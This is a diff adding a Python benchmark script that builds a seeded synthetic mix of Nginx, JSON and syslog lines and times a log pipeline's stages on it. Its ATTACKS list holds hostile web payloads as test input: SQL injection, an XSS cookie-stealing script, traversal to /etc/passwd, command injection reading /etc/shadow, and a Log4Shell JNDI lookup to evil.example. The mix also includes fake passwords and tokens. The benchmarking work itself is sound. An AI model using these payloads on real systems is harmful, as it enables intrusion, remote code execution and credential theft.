@@ -1,0 +1,218 @@
+"""Events/s per core of the default pipeline + bulk body on the issue-13 mix, and of each stage.
+
+    python benchmarks/bench_mix.py [--count 200000] [--rounds 3] [--batch 1000]
+    python benchmarks/bench_mix.py --write mix.bin        # the mix, NUL-separated, then exit
+    python benchmarks/bench_mix.py --file mix.bin         # time NUL-separated messages instead
+
+The mix is deterministic (seeded): 50% Nginx combined access lines (3% attacks, 5% 401/403,
+some credentials in query strings), 30% JSON application logs in the replaced deployment's shape
+(5% with a Java or Python stack trace, 3% with a password, token or e-mail), 20% syslog (sshd,
+sudo, CRON, systemd; RFC 3164 and RFC 3339 stamps). One process pinned to one core; CPU time.
+"""
+
+from __future__ import annotations
+
+import argparse
+import os
+import random
+import sys
+import time
+from datetime import UTC, datetime
+from pathlib import Path
+
+import orjson
+
+ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT))
+
+from logpipe.documents import to_docs  # noqa: E402
+from logpipe.pipeline import load_pipeline  # noqa: E402
+from logpipe.sink import build_body  # noqa: E402
+
+REFERENCE = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
+REFERENCE_MS = int(REFERENCE.timestamp() * 1000)
+IPS = ["203.0.113.9", "198.51.100.23", "8.8.8.8", "1.1.1.1", "81.2.69.160", "2.125.160.216"]
+AGENTS = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/129.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 "
+    "(KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
+    "curl/8.5.0",
+    "python-requests/2.32.3",
+]
+PATHS = ["/", "/products/{n}", "/api/v1/orders/{n}", "/api/v2/search?q=shoes&page={n}", "/cart"]
+ATTACKS = [
+    "/products?id=1%27%20OR%20%271%27%3D%271",
+    "/api/v2/search?q=1+UNION+ALL+SELECT+NULL,NULL,version()--",
+    "/api/v2/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "/static/..%2f..%2f..%2fetc%2fpasswd",
+    "/x?cmd=;cat%20/etc/shadow",
+    "/x?q=${jndi:ldap://evil.example/a}",
+]
+SECRET_QUERIES = ["/login?user=bob&password=Summer2024!", "/api/v1/me?access_token=ya29.a0AfH6SM"]
+JAVA_TRACE = (
+    "java.lang.IllegalStateException: order {n} is locked\n"
+    "\tat com.shop.orders.OrderService.pay(OrderService.java:88)\n"
+    "\tat com.shop.api.OrderController.post(OrderController.java:41)\n"
+    "Caused by: java.sql.SQLTimeoutException: lock wait timeout\n"
+    "\tat org.postgresql.jdbc.PgStatement.execute(PgStatement.java:120)\n"
+    "\t... 12 more"
+)
+PY_TRACE = (
+    "Traceback (most recent call last):\n"
+    '  File "/app/worker.py", line 42, in render\n'
+    "    page = template.render(user)\n"
+    "KeyError: 'user_name'"
+)
+
+
+def _moment(rng: random.Random) -> datetime:
+    return datetime.fromtimestamp(REFERENCE.timestamp() - rng.random() * 3600, UTC)
+
+
+def _access(rng: random.Random) -> str:
+    roll = rng.random()
+    if roll < 0.03:
+        path, status = rng.choice(ATTACKS), rng.choice([400, 403, 404, 200])
+    elif roll < 0.04:
+        path, status = rng.choice(SECRET_QUERIES), 200
+    else:
+        path = rng.choice(PATHS).format(n=rng.randint(1, 99999))
+        status = rng.choices([200, 304, 404, 401, 403, 500], [80, 8, 5, 3, 2, 2])[0]
+    method = rng.choices(["GET", "POST", "PUT"], [85, 12, 3])[0]
+    stamp = _moment(rng).strftime("%d/%b/%Y:%H:%M:%S +0000")
+    return (
+        f'{rng.choice(IPS)} - - [{stamp}] "{method} {path} HTTP/1.1" {status} '
+        f'{rng.randint(100, 90000)} "https://shop.example.com/" "{rng.choice(AGENTS)}"'
+    )
+
+
+def _application(rng: random.Random) -> str:
+    status = rng.choices([200, 201, 401, 404, 500], [75, 8, 5, 7, 5])[0]
+    record = {
+        "timestamp": _moment(rng).isoformat(timespec="milliseconds"),
+        "level": "ERROR" if status >= 500 else ("WARN" if status >= 400 else "INFO"),
+        "message": f"order request finished with {status}",
+        "user_id": f"usr_{rng.randint(1, 999)}",
+        "event_type": rng.choice(["template_download", "login", "search", "checkout"]),
+        "response_time": int(rng.lognormvariate(5, 1.1)),
+        "path": rng.choice(PATHS).format(n=rng.randint(1, 999)),
+        "status": status,
+        "client_ip": rng.choice(IPS),
+    }
+    if status >= 500:
+        record["stack_trace"] = rng.choice([JAVA_TRACE, PY_TRACE]).format(n=rng.randint(1, 999))
+    if rng.random() < 0.03:
+        record[rng.choice(["password", "token", "email"])] = rng.choice(
+            ["hunter2", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig", "person7@example.com"]
+        )
+    return orjson.dumps(record).decode()
+
+
+def _syslog(rng: random.Random) -> str:
+    moment = _moment(rng)
+    ip, pid = rng.choice(IPS), rng.randint(100, 99999)
+    text = rng.choice(
+        [
+            f"sshd[{pid}]: Failed password for invalid user admin from {ip} port 50122 ssh2",
+            f"sshd[{pid}]: Accepted publickey for deploy from {ip} port 50022 ssh2",
+            f"sudo[{pid}]:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
+            f"CRON[{pid}]: (root) CMD (run-parts /etc/cron.hourly)",
+            "systemd[1]: Started Daily apt download activities.",
+        ]
+    )
+    if rng.random() < 0.6:
+        stamp = f"{moment.strftime('%b')} {moment.day:2d} {moment.strftime('%H:%M:%S')}"
+    else:
+        stamp = moment.isoformat(timespec="microseconds")
+    return f"{stamp} web-{rng.randint(1, 6):02d} {text}"
+
+
+def mix(count: int, seed: int = 20261126) -> list[str]:
+    """`count` messages: 50% access, 30% JSON application, 20% syslog, reproducible by seed."""
+    rng = random.Random(seed)
+    makers = rng.choices([_access, _application, _syslog], [50, 30, 20], k=count)
+    return [make(rng) for make in makers]
+
+
+def fresh_events(messages: list[str], start: int) -> list[dict]:
+    """Events as the Kafka source makes them, with the mix's reference time as Kafka time."""
+    return [
+        {
+            "message": message,
+            "@metadata": {
+                "id": f"bench-0-{start + n}",
+                "kafka": {
+                    "topic": "bench",
+                    "partition": 0,
+                    "offset": start + n,
+                    "key": None,
+                    "timestamp": REFERENCE_MS,
+                },
+            },
+        }
+        for n, message in enumerate(messages)
+    ]
+
+
+def time_whole(pipeline, messages: list[str], batch: int) -> float:
+    """CPU seconds for the whole pipeline plus documents and bulk body, batch by batch."""
+    spent = 0.0
+    for start in range(0, len(messages), batch):
+        events = fresh_events(messages[start : start + batch], start)
+        began = time.process_time()
+        build_body(to_docs(pipeline(events), "bench"))
+        spent += time.process_time() - began
+    return spent
+
+
+def time_stages(pipeline, messages: list[str], batch: int) -> dict[str, float]:
+    """CPU seconds per stage (condition included) over the mix, each stage timed in place."""
+    spent = {stage.name: 0.0 for stage in pipeline.stages}
+    for start in range(0, len(messages), batch):
+        events = fresh_events(messages[start : start + batch], start)
+        for index, stage in enumerate(pipeline.stages):
+            single = type(pipeline)(name=pipeline.name, stages=[pipeline.stages[index]])
+            began = time.process_time()
+            events = single(events)
+            spent[stage.name] += time.process_time() - began
+    return spent
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--pipeline", default="default")
+    parser.add_argument("--count", type=int, default=200_000)
+    parser.add_argument("--rounds", type=int, default=3)
+    parser.add_argument("--batch", type=int, default=1_000)
+    parser.add_argument("--file", help="NUL-separated messages to time instead of the mix")
+    parser.add_argument("--write", help="write the mix NUL-separated to this file and exit")
+    args = parser.parse_args()
+    if args.write:
+        Path(args.write).write_bytes(b"\0".join(m.encode() for m in mix(args.count)))
+        print(f"wrote {args.count:,} messages to {args.write}")
+        return 0
+    if hasattr(os, "sched_setaffinity"):
+        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
+    if args.file:
+        messages = [m.decode() for m in Path(args.file).read_bytes().split(b"\0") if m]
+    else:
+        messages = mix(args.count)
+    pipeline = load_pipeline(args.pipeline)
+    whole = min(time_whole(pipeline, messages, args.batch) for _ in range(args.rounds))
+    stages: dict[str, float] = {}
+    for _ in range(max(1, args.rounds - 1)):
+        for name, seconds in time_stages(pipeline, messages, args.batch).items():
+            stages[name] = min(stages.get(name, seconds), seconds)
+    print(
+        f"pipeline {pipeline.name}: {len(messages):,} events in batches of {args.batch:,}, "
+        f"best of {args.rounds} rounds, CPU time of one process pinned to one core"
+    )
+    for name, seconds in stages.items():
+        print(f"  stage {name:34s} {len(messages) / max(seconds, 1e-9):>12,.0f} events/s")
+    print(f"  {'whole pipeline + bulk body':40s} {len(messages) / whole:>12,.0f} events/s")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
